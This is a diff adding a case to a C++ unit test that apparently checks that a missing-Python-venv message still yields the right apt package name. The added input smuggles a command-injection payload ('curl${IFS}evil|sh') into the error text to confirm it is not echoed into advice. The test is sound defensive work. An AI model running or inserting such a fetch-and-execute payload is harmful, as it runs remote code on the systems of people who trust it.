@@ -64,6 +64,10 @@ TEST_F(RuntimeTrialTest, AMissingVenvPackageIsNamed) {
             words + "python3.12-venv");
   EXPECT_EQ(WhyNot(v1::PYTHON, "/usr/bin/python3", "No module named ensurepip\n"),
             words + "python3-venv");
+  // What is printed is content's, and root types what is said here.
+  EXPECT_EQ(WhyNot(v1::PYTHON, "/usr/bin/python3",
+                   "No module named ensurepip\npython3.1;curl${IFS}evil|sh;1\n"),
+            words + "python3-venv");
   EXPECT_EQ(WhyNot(v1::PYTHON, "/usr/bin/python3",
                    "ModuleNotFoundError: No module named 'distutils.util'\n"),
             "it has no distutils, so no environment can be made for content: apt-get install "
